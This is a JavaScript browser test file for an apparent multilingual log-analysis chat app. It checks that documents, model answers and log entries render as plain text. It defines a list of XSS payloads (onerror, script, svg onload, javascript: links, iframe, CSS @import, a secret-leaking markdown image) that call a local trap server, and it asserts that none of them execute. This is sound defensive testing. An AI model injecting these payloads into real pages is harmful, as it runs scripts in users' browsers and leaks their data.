import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { Visitor, walk } from './harness.mjs';
import { Server } from './server.mjs';

/** Whoever is called here was called by something that should have done nothing. */
async function trap() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(request.url);
    response.end();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${server.address().port}`, heard, close: () => server.close() };
}

const payloadsFor = (url) => [
  `<img src=x onerror="fetch('${url}/img')">`,
  `<script>fetch('${url}/script')</script>`,
  `![secret](${url}/picture?d=secret)`,
  `[click](javascript:fetch('${url}/link'))`,
  `<svg onload=fetch('${url}/svg')>`,
  `"><iframe src="${url}/frame"></iframe>`,
  `<style>@import url(${url}/style)</style>`,
];

/** Nothing of what is shown has run, and nobody was called. */
async function harmless(v, evil) {
  await v.page.waitForTimeout(500);
  assert.equal(await v.page.locator('main img, main script, main iframe, main style, main [href^="javascript"], main [onerror], main [onload]').count(), 0);
  assert.deepEqual(evil.heard, [], 'nobody was called');
}

walk('what documents say is never run, and loads nothing', async ({ browser, lang }) => {
  const evil = await trap();
  const server = await Server.start({ lines: [{ created_at: new Date().toISOString(), level: 'INFO', service: 'shop', log_type: 'BACKEND', message: 'hello' }] });
  const v = await Visitor.come(browser, server.url, lang);
  await v.page.goto(`${server.url}/library`);
  const text = `# Zorblax ${payloadsFor(evil.url)[0]}\n\n${payloadsFor(evil.url).map((one) => `Zorblax 보증금은 7억 원입니다. The zorblax deposit is 700 million won. ${one}`).join('\n\n')}\n`;
  await v.page.locator('input[type=file]').setInputFiles({ name: 'zorblax.md', mimeType: 'text/markdown', buffer: Buffer.from(text) });
  // It can be asked about once it was read, not once it was sent; the list has it then.
  await v.page.getByText(v.say('“zorblax.md” 문서를 넣었습니다.', '“zorblax.md” was taken in.')).first().waitFor();
  await v.page.locator('li.line', { hasText: 'zorblax.md' }).waitFor();
  await harmless(v, evil);
  await v.page.goto(server.url);
  await v.choose('researcher');
  await v.ask(v.say('Zorblax 보증금은 얼마인가요?', 'How much is the zorblax deposit?'));
  await v.settled();
  const mark = v.turns.last().locator('.mark').first();
  await mark.waitFor();
  await harmless(v, evil);
  await mark.click();
  // It is shown as what it is: text. The passage takes the place of the cited words once it has come.
  await v.page.getByRole('dialog').locator('blockquote', { hasText: /onerror|script|onload|iframe|import|javascript|picture/ }).first().waitFor();
  assert.equal(await v.page.locator('dialog img, dialog script, dialog iframe').count(), 0);
  await harmless(v, evil);
  await v.leave();
  await server.end();
  evil.close();
});

walk('what a model says is never run, and loads nothing', async ({ browser, lang }) => {
  const evil = await trap();
  const said = ['Zorblax-model.', ...payloadsFor(evil.url)].join('\n\n');
  // As the decision about small talk answers.
  const server = await Server.start({ model: `${JSON.stringify({ says: JSON.stringify({ answer: said }), always: true })}\n` });
  const v = await Visitor.come(browser, server.url, lang);
  await v.choose('researcher');
  await v.ask(v.say('안녕하세요', 'hello'));
  await v.settled();
  await v.turns.last().getByText('Zorblax-model.').waitFor();
  assert.ok((await v.turns.last().getByText('onload=fetch').count()) > 0, 'it is shown as what it is: text');
  await harmless(v, evil);
  await v.leave();
  await server.end();
  evil.close();
});

walk('what logs and graphs say is never run, and loads nothing', async ({ browser, lang }) => {
  const evil = await trap();
  const payloads = payloadsFor(evil.url);
  const at = new Date(Date.now() - 60_000).toISOString();
  const lines = payloads.map((message, n) => ({ created_at: at, level: 'ERROR', service: n === 0 ? payloads[0] : 'shop', log_type: 'BACKEND', message, user_id: payloads[2] }));
  const server = await Server.start({ lines });
  const v = await Visitor.come(browser, server.url, lang);
  await v.page.evaluate(() => {
    globalThis.ran = false;
    globalThis.alert = () => (globalThis.ran = true);
  });
  await v.ask(v.say('최근 1시간 shop 에러 로그 보여줘', 'show the error logs of shop in the last hour'));
  await v.settled();
  const turn = v.turns.last();
  await turn.locator('table').waitFor();
  assert.ok((await turn.getByText('onload=fetch').count()) > 0, 'it is shown as what it is: text');
  await v.ask(v.say('최근 1시간 서비스별 에러 건수', 'errors by service in the last hour'));
  await v.page.waitForFunction(() => document.querySelectorAll('article').length === 2);
  await v.settled();
  // The same through a graph's own text, which is shown as Markdown.
  await v.button('새 대화', 'New conversation').click();
  await v.choose('article');
  await v.ask(payloads.join('\n\n'));
  await v.button('발행', 'Publish').waitFor();
  await v.page.waitForTimeout(500);
  assert.equal(await v.page.locator('article img, article script, article iframe, article [href^="javascript"]').count(), 0);
  assert.equal(await v.page.evaluate(() => globalThis.ran), false);
  assert.deepEqual(evil.heard, [], 'nobody was called');
  const policy = (await fetch(server.url, { headers: { accept: 'text/html' } })).headers.get('content-security-policy');
  assert.match(policy, /^default-src 'self';/);
  await v.leave();
  await server.end();
  evil.close();
});
